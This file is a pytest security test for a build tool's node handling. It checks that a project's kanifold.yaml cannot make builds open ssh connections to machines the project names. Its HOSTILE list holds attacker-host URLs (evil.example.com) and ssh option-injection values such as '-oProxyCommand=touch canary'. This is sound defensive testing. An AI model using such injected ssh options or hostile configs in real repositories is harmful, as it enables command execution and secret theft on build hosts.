"""Attack 78: a checkout names machines in its kanifold.yaml, so that a build logs in there and hands over secrets.

The project's file may select nodes of the user's own inventory, and nothing of it becomes an argument of ssh.
"""

from __future__ import annotations

import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import Kanifold

HOSTILE = (
    "nodes: {arm: {url: 'ssh://evil.example.com', platforms: 'linux/amd64,linux/arm64'}, more: {url: 'ssh://evil.example.com'}}",
    "nodes:\n  more: {url: 'ssh://evil.example.com'}\n  local: {url: local}\n",
    "nodes: ['more=ssh://evil.example.com']",
    "nodes: ['-oProxyCommand=touch canary']",
    "nodes: {arm: {url: 'ssh://-oProxyCommand=touch canary'}}",
    "nodes: {arm: {url: 'ssh://arm', python: /tmp/evil}}",
)


@pytest.fixture
def recorded(kanifold: Kanifold, tmp_path: Path) -> tuple[Kanifold, Path]:
    """The command, with one node in the inventory and an ssh that only records its arguments; and that record."""
    programs, record = tmp_path / "programs", tmp_path / "record"
    programs.mkdir()
    record.touch()
    ssh = programs / "ssh"
    ssh.write_text(f'#!/bin/sh\necho "$@" >> {record}\nexit 255\n')
    ssh.chmod(0o755)
    kanifold = replace(kanifold, extra={"PATH": f"{programs}:{kanifold.environment()['PATH']}"})
    assert shutil.which("ssh", path=kanifold.environment()["PATH"]) == str(ssh)
    kanifold("node", "add", "arm", "ssh://arm.example.com")
    return kanifold, record


@pytest.mark.parametrize("text", HOSTILE)
def test_no_command_connects_to_a_machine_of_the_checkout(
    recorded: tuple[Kanifold, Path], tmp_path: Path, text: str
) -> None:
    kanifold, record = recorded
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "kanifold.yaml").write_text(text)
    (checkout / "Dockerfile").write_text('FROM scratch\nCOPY kanifold.yaml /\nRUN ["/none"]\n')
    for command in (
        ("build", ".", "--platform", "linux/amd64,linux/arm64,linux/riscv64"),
        ("build", ".", "--platform", "linux/arm64=more"),
        ("build", ".", "--node", "more"),
        ("build", ".", "--node", "more", "--dry-run"),
        ("node", "ls"),
        ("node", "check", "more"),
    ):
        kanifold.run(*command, cwd=checkout)
    assert "evil" not in record.read_text()
    assert "canary" not in record.read_text()
    assert sorted(each.name for each in checkout.iterdir()) == ["Dockerfile", "kanifold.yaml"]


def test_the_record_can_have_something(recorded: tuple[Kanifold, Path]) -> None:
    kanifold, record = recorded
    assert kanifold.run("node", "check").code == 3
    assert "arm.example.com" in record.read_text()
